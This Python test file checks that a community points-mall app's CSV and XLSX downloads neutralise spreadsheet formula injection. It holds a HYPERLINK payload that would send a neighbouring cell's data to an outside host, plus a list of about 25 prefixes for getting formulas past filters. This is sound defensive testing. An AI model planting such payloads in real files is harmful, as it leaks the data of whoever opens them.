"""Formula injection: no download staff or merchants can get holds a cell a spreadsheet runs.

Hostile text (volunteer names, micro-grids, activity titles and places, award titles and
reversal reasons, merchant and item names, refund reasons, volunteer labels, ledger memos)
is stored with every prefix an attacker has tried, then each file is read back as a
spreadsheet reads it: openpyxl for XLSX (no formula cell, every text a string cell), the csv
module for CSV (no field that starts a formula).
"""

import csv
import io
import re
from datetime import timedelta

import openpyxl
import pytest
import sqlalchemy as sa

import ledger
from ledger.clock import utcnow
from merchants import redemptions, settlement
from merchants.models import Item, Merchant
from pointsmall.core import cells, files
from pointsmall.earning import activities, awards
from pointsmall.earning.models import Award
from pointsmall.earning.rules import activity_types
from pointsmall.extensions import db
from pointsmall.people import communities
from tests.builders import build_staff, enter_session

PAYLOAD = 'HYPERLINK("//x.cn/?"&B2,"看")'
# What an attacker puts in front of the formula, and what a safe file may never hand back.
PREFIXES = {
    "equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t=", "carriage return": "\r=",
    "line feed": "\n=", "control A": "\x01=", "two controls": "\x02\x1f+",
    "vertical tab": "\x0b-", "form feed": "\x0c@", "space": " =", "spaces and tab": "  \t=",
    "ideographic space": "\u3000=", "no-break space": "\xa0@", "zero-width space": "\u200b=",
    "byte order mark": "\ufeff+", "right-to-left mark": "\u200f=", "control then tab": "\x01\t=",
    "full-width equals": "＝", "full-width plus": "＋", "full-width minus": "－",
    "full-width at": "＠", "small equals": "\ufe66", "minus sign": "\u2212",
}
HOSTILE = [prefix + PAYLOAD for prefix in PREFIXES.values()]
TABLES = ("volunteers", "activities", "attendance", "awards", "redemptions", "statements",
          "journal")
SIGNS = "=+-@＝＋－＠\ufe62\ufe63\ufe66\ufe6b\u2212"
# A spreadsheet may skip these in front of a sign: whitespace, controls, invisible marks.
SKIPPABLE = re.compile(r"^[\s\x00-\x1f\x7f\u200b-\u200f\u2028-\u202e\u2060\ufeff]*")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def starts_a_formula(text: str) -> bool:
    first = SKIPPABLE.sub("", text)[:1]
    return text[:1] in ("\t", "\r", "\n") or (first != "" and first in SIGNS)


def read_csv(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    return list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")))


def read_xlsx(answer) -> list[list]:
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    sheet = openpyxl.load_workbook(io.BytesIO(answer.get_data())).active
    return [list(row) for row in sheet.iter_rows()]


def offending(url: str, answer) -> tuple[list, int]:
    """Return the cells of a download that a spreadsheet could run, and how many cells
    carry the payload (so that the check is known to have seen the hostile text)."""
    bad, seen = [], 0
    if ".xlsx" in url:
        for row in read_xlsx(answer):
            for cell in row:
                if isinstance(cell.value, str):
                    seen += PAYLOAD in cell.value
                    if cell.data_type != "s" or starts_a_formula(cell.value):
                        bad.append((cell.coordinate, cell.data_type, cell.value))
                elif cell.data_type == "f":
                    bad.append((cell.coordinate, "f", cell.value))
    else:
        for row in read_csv(answer):
            for field in row:
                seen += PAYLOAD in field
                if starts_a_formula(field) and not NUMBER.match(field):
                    bad.append(field)
    return bad, seen


@pytest.fixture
def poisoned(app, make_community, make_volunteer, make_shop, make_item, redeem):
    """A community whose every typed text starts with one of the hostile prefixes."""
    place = make_community()
    staff = build_staff(place)
    kind = activity_types(db.session, place.id)[0]
    kind.name = HOSTILE[0]
    counter = make_shop(place)
    counter.merchant.name = HOSTILE[0]
    long_ago = utcnow() - timedelta(days=40)
    for n, text in enumerate(HOSTILE):
        grid = communities.create_grid(db.session, place.id, f"微网格{n}", place.grid.id)
        grid.name = text
        volunteer = make_volunteer(place, points=100)
        volunteer.user.name, volunteer.grid_id = text, grid.id
        start = utcnow() - timedelta(days=1)
        activity = activities.create_activity(db.session, place.id, {
            "type_id": kind.id, "title": f"活动{n}", "starts_at": start,
            "ends_at": start + timedelta(hours=2), "points": 5, "merit": 1}, by=staff.id)
        activity.title, activity.place = text, text
        activities.mark_present(db.session, activity, [volunteer.id])
        batch = awards.award_activity(db.session, activity, None, key=f"poison:{n}",
                                      by=staff.id)
        award = db.session.scalars(sa.select(Award).where(Award.batch_id == batch.id)).one()
        awards.reverse_award(db.session, award.id, place.id, reason="录错了")
        award.title, award.reversal_reason = text, text
        ledger.move(db.session, place.community.account("POINTS"), volunteer.account("POINTS"),
                    1, key=f"poison:memo:{n}", kind="adjustment", memo=text)
        item = make_item(counter, name=f"商品{n}", price=10)
        db.session.get(Item, item.id).name = text
        sold = redeem(volunteer, item)
        redemptions.confirm(db.session, counter.id, sold.code, confirmed_by=counter.user.id)
        if n % 2:
            redemptions.refund(db.session, sold.id, reason="退货", merchant_id=counter.id)
            sold.refund_reason = text
        sold.volunteer_label = text
        other = make_shop(place)
        db.session.get(Merchant, other.id).name = text
        settlement.close_period(db.session, other.id, long_ago, long_ago + timedelta(days=1),
                                fen_per_point=5, closed_by=staff.id)
    settlement.close_period(db.session, counter.id, long_ago, long_ago + timedelta(days=1),
                            fen_per_point=5, closed_by=staff.id)
    make_volunteer(place).user.name = "#N/A"  # an error code, not a formula: still text
    db.session.commit()
    return place, staff, counter


def downloads(place) -> list[tuple[str, str, int]]:
    """(who, URL, least number of cells that carry the payload) of every download."""
    every = len(HOSTILE)
    listed = [("staff", "/staff/volunteers/export.csv", every),
              ("merchant", "/counter/statement?format=csv", every)]
    for fmt in ("csv", "xlsx"):
        for table in TABLES:
            listed.append(("staff", f"/staff/exports/{table}.{fmt}", every))
            listed.append(("admin", f"/admin/communities/{place.id}/exports/{table}.{fmt}",
                           every))
        listed.append(("merchant", f"/counter/exports/redemptions.{fmt}", every))
        listed.append(("merchant", f"/counter/exports/statements.{fmt}", 1))
    return listed


def test_no_download_holds_a_cell_a_spreadsheet_would_run(app, poisoned, make_admin):
    place, staff, counter = poisoned
    people = {"staff": staff, "admin": make_admin(), "merchant": counter.user}
    client = app.test_client()
    problems = {}
    for who, url, least in downloads(place):
        enter_session(client, people[who])
        bad, seen = offending(url, client.get(url))
        assert seen >= least, f"{url}: only {seen} cells carry the hostile text"
        if bad:
            problems[url] = bad[:5]

    assert not problems, problems


def test_numbers_stay_numbers_and_error_codes_stay_text(app, poisoned):
    place, staff, _counter = poisoned
    client = app.test_client()
    enter_session(client, staff)

    journal = read_xlsx(client.get("/staff/exports/journal.xlsx"))
    amounts = [row[6] for row in journal[1:]]
    volunteers = read_xlsx(client.get("/staff/exports/volunteers.xlsx"))
    journal_csv = read_csv(client.get("/staff/exports/journal.csv"))

    assert all(cell.data_type == "n" and isinstance(cell.value, int) for cell in amounts)
    assert any(cell.value < 0 for cell in amounts), "issuance legs are negative numbers"
    assert "-1" in [row[6] for row in journal_csv[1:]]
    error_code = [row[0] for row in volunteers if row[0].value == "#N/A"]
    assert [cell.data_type for cell in error_code] == ["s"]


@pytest.mark.parametrize("prefix", PREFIXES.values(), ids=PREFIXES.keys())
def test_a_hostile_prefix_is_defused_in_the_text_as_finally_written(prefix):
    text = prefix + PAYLOAD
    with files.xlsx_file("表", ["姓名", "积分"], [[text, -5]]) as written_file:
        written = list(openpyxl.load_workbook(written_file).active.iter_rows())[1]
    field = next(csv.reader(io.StringIO(cells.csv_line([text]))))[0]

    assert written[0].data_type == "s" and not starts_a_formula(written[0].value)
    assert written[0].value.endswith(PAYLOAD)
    assert (written[1].data_type, written[1].value) == ("n", -5)
    assert not starts_a_formula(field) and field.endswith(PAYLOAD)
    assert not starts_a_formula(cells.safe_cell(text))  # the merchant statement's cells


@pytest.mark.parametrize("value", ["王小明", "a=b", "13900001111", " 滨江路", "", "1-2"])
def test_plain_text_is_written_as_it_is(value):
    assert cells.safe_cell(value) == value == cells.csv_value(value)
